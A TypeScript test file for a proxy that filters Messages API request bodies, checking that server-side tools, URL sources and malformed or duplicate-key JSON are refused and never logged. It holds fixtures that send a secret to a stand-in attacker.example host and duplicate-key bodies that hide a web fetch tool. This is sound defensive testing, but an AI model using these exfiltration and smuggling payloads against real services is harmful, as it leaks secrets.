// The model proxy reads each body before a byte of it is sent: the Messages API acts on it from
// Anthropic's side (web fetch, the MCP connector, code execution, URL image and document sources),
// so only what Claude Code itself sends is forwarded. The allowed bodies are the real Claude Code's,
// recorded against the scripted model (test/fixtures/claude-code-requests.json).
import { readFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { duplicateKey, MESSAGES_API_MAX_BODY_BYTES, modelBodyRefusal } from '../../runner-image/model/body.ts';
import { startModelProxy, type ModelProxy } from '../../runner-image/model/proxy.ts';
import { ModelSpend } from '../../runner-image/model/spend.ts';

const recorded = JSON.parse(
  readFileSync(new URL('../fixtures/claude-code-requests.json', import.meta.url), 'utf8'),
) as {
  turn: { tools: object[]; messages: unknown[] } & Record<string, unknown>;
  webSearch: Record<string, unknown>;
};
const { turn, webSearch } = recorded;
const SECRET = 'c0ffee-repository-secret';
const withTools = (...tools: object[]) => JSON.stringify({ ...turn, tools: [...turn.tools, ...tools] });
const withMessage = (content: object[]) =>
  JSON.stringify({ ...turn, messages: [...turn.messages, { role: 'user', content }] });
const urlSource = (type: string) => ({ type, source: { type: 'url', url: `https://attacker.example/${SECRET}` } });
const server = (type: string, name: string) => ({ type, name, max_uses: 1 });
const plain = JSON.stringify({ model: 'm', messages: [] });

const allowed: Array<[string, string]> = [
  ["Claude Code's turn after a tool call", JSON.stringify(turn)],
  ["Claude Code's WebSearch call (the web search server tool)", JSON.stringify(webSearch)],
  [
    'count_tokens as Claude Code shapes it',
    JSON.stringify({ model: turn.model, messages: turn.messages, tools: turn.tools }),
  ],
  ['a client tool typed custom', withTools({ type: 'custom', name: 'x', input_schema: { type: 'object' } })],
  [
    'base64 images and the same key in sibling objects',
    withMessage([
      { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBO' } },
      { type: 'text', text: '"tools":' },
    ]),
  ],
  ['JSON whitespace around it', ` \n${plain}\n `],
];

const refused: Array<[string, string | Buffer, RegExp]> = [
  [
    'the MCP connector',
    JSON.stringify({ ...turn, mcp_servers: [{ type: 'url', url: `https://attacker.example/${SECRET}`, name: 'x' }] }),
    /mcp_servers/,
  ],
  ['an empty mcp_servers', JSON.stringify({ ...turn, mcp_servers: [] }), /mcp_servers/],
  ['web fetch', withTools(server('web_fetch_20250910', 'web_fetch')), /"web_fetch_20250910"/],
  ['a later web fetch', withTools(server('web_fetch_20260209', 'web_fetch')), /web_fetch_20260209/],
  ['code execution', withTools({ type: 'code_execution_20250825', name: 'code_execution' }), /code_execution/],
  ['the bash server variant', withTools({ type: 'bash_20250124', name: 'bash' }), /bash_20250124/],
  [
    'the text editor server variant',
    withTools({ type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' }),
    /text_editor/,
  ],
  [
    'computer use',
    withTools({ type: 'computer_20250124', name: 'computer', display_width_px: 1, display_height_px: 1 }),
    /computer/,
  ],
  [
    'a web search version Claude Code does not send',
    withTools(server('web_search_20260209', 'web_search')),
    /web_search_20260209/,
  ],
  [
    'the advisor tool (not configured by Tether)',
    withTools({ type: 'advisor_20260301', name: 'advisor', model: 'm' }),
    /advisor/,
  ],
  ['an unknown typed tool', withTools({ type: 'fetch_anything_20990101', name: 'f' }), /fetch_anything/],
  ['a type that is not a word', withTools({ type: `https://attacker.example/${SECRET}`, name: 'f' }), /unrecognised/],
  ['a type that is not a string', withTools({ type: 7, name: 'f' }), /unrecognised/],
  ['a tool that is not an object', withTools([] as unknown as object), /must be an object/],
  [
    'tools that are not an array',
    JSON.stringify({ ...turn, tools: { web_fetch: server('web_fetch_20250910', 'web_fetch') } }),
    /must be an array/,
  ],
  ['an image fetched from a URL', withMessage([urlSource('image')]), /url/],
  [
    'a document fetched from a URL, inside a tool result',
    withMessage([{ type: 'tool_result', tool_use_id: 't', content: [urlSource('document')] }]),
    /url/,
  ],
  ['not JSON', `{"model":"m",${SECRET}`, /not JSON/],
  ['a JSON array', JSON.stringify([turn]), /JSON object/],
  ['JSON null', 'null', /JSON object/],
  ['a JSON string', JSON.stringify(JSON.stringify(turn)), /JSON object/],
  ['invalid UTF-8', Buffer.from('{"model":"m\xff"}', 'latin1'), /not JSON/],
  ['a byte order mark', `\ufeff${plain}`, /not JSON/],
  [
    'duplicate keys hiding a tool (JSON.parse keeps the last)',
    `{"model":"m","tools":[${JSON.stringify(server('web_fetch_20250910', 'web_fetch'))}],"tools":[]}`,
    /"tools" appears twice/,
  ],
  [
    'duplicate keys, one escaped',
    `{"tools":[${JSON.stringify(server('web_fetch_20250910', 'web_fetch'))}],"\\u0074ools":[]}`,
    /"tools" appears twice/,
  ],
  [
    'duplicate keys behind whitespace',
    `{"mcp_servers"${' '.repeat(40)}:[{"url":"https://attacker.example"}],"mcp_servers"\t\r\n :1}`,
    /appears twice/,
  ],
  [
    'duplicate keys inside a tool',
    `{"tools":[{"type":"web_fetch_20250910","name":"web_fetch","type":"custom"}]}`,
    /"type" appears twice/,
  ],
];

describe('model proxy: which bodies are forwarded', () => {
  it.each(allowed)('forwards %s', (_name, body) => {
    expect(modelBodyRefusal(Buffer.from(body))).toBeUndefined();
  });

  it.each(refused)('refuses %s', (_name, body, reason) => {
    expect(modelBodyRefusal(Buffer.from(body))).toMatch(reason);
  });

  it('finds a repeated key at any depth, and none where keys only repeat across objects', () => {
    expect(duplicateKey('{"a":[{"b":1,"c":{"b":2}},{"b":3}],"d":"\\"a\\":"}')).toBeUndefined();
    expect(duplicateKey('{"a":[{"b":1,"c":{"d":2,"d":3}}]}')).toBe('d');
  });
});

let api: Server;
const forwarded: string[] = [];
let proxy: ModelProxy;
const logged: string[] = [];
beforeAll(async () => {
  api = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      forwarded.push(Buffer.concat(chunks).toString());
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"type":"message","content":[]}');
    });
  });
  await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
  const log = pino(
    { level: 'debug' },
    new Writable({ write: (c: Buffer, _e, done) => done(void logged.push(String(c))) }),
  );
  const upstream = `http://127.0.0.1:${(api.address() as AddressInfo).port}`;
  proxy = await startModelProxy({ upstream, apiKey: 'sk-ant-body-canary', log, spend: new ModelSpend() });
});
afterAll(async () => {
  await proxy.close();
  api.closeAllConnections();
  api.close();
});

const post = (path: string, body: string | Buffer, headers: Record<string, string> = {}) =>
  fetch(`${proxy.url}${path}`, {
    method: 'POST',
    body: new Uint8Array(Buffer.from(body)),
    headers: { 'content-type': 'application/json', ...headers },
  });

/** POSTs with these headers, writing `chunks` until the proxy answers (it may answer before the body ends). */
function postUntilAnswered(
  headers: Record<string, string>,
  chunks: Buffer[],
): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = request(`${proxy.url}/v1/messages`, { method: 'POST', headers }, (res) => {
      answered = true;
      let body = '';
      res.on('data', (c: Buffer) => (body += String(c)));
      res.on('end', () => resolve({ status: res.statusCode!, body }));
    });
    req.on('error', (error) => answered || reject(error));
    void (async () => {
      for (const chunk of chunks) {
        if (answered) return;
        if (!req.write(chunk)) await new Promise((drained) => req.once('drain', drained));
      }
      req.end();
    })();
  });
}

describe('model proxy: bodies over the wire', () => {
  it("forwards Claude Code's bodies byte for byte, on both paths", async () => {
    forwarded.length = 0;
    for (const [path, body] of [
      ['/v1/messages?beta=true', allowed[1]![1]],
      ['/v1/messages/count_tokens?beta=true', allowed[2]![1]],
    ] as const)
      expect((await post(path, body)).status).toBe(200);
    expect(forwarded).toEqual([allowed[1]![1], allowed[2]![1]]);
  });

  it.each(['/v1/messages?beta=true', '/v1/messages/count_tokens'])(
    "answers a refused body on %s with 400 in the API's shape: nothing is sent, the log has neither key nor body",
    async (path) => {
      forwarded.length = 0;
      logged.length = 0;
      for (const [name, body] of refused) {
        const res = await post(path, body);
        expect(res.status, name).toBe(400);
        expect(await res.json(), name).toMatchObject({ type: 'error', error: { type: 'invalid_request_error' } });
      }
      expect(forwarded).toEqual([]);
      expect(logged.filter((line) => line.includes('model proxy refused a request'))).toHaveLength(refused.length);
      expect(logged.join('')).not.toMatch(new RegExp(`${SECRET}|sk-ant-body-canary|attacker`));
    },
  );

  it("answers a body larger than the API takes with 413 in the API's shape, declared or streamed", async () => {
    forwarded.length = 0;
    const declared = await postUntilAnswered({ 'content-length': String(MESSAGES_API_MAX_BODY_BYTES + 1) }, [
      Buffer.from(plain),
    ]);
    const megabyte = Buffer.alloc(1024 * 1024, 0x20);
    const streamed = await postUntilAnswered({ 'transfer-encoding': 'chunked' }, [
      Buffer.from('{"model":"m","x":"'),
      ...Array<Buffer>(MESSAGES_API_MAX_BODY_BYTES / megabyte.length + 1).fill(megabyte),
      Buffer.from('"}'),
    ]);
    for (const answer of [declared, streamed]) {
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body)).toMatchObject({ type: 'error', error: { type: 'request_too_large' } });
    }
    expect(forwarded).toEqual([]);
  });

  it('refuses a compressed body without reading it', async () => {
    forwarded.length = 0;
    const res = await post('/v1/messages', plain, { 'content-encoding': 'deflate' });
    expect(res.status).toBe(400);
    expect(forwarded).toEqual([]);
  });
});
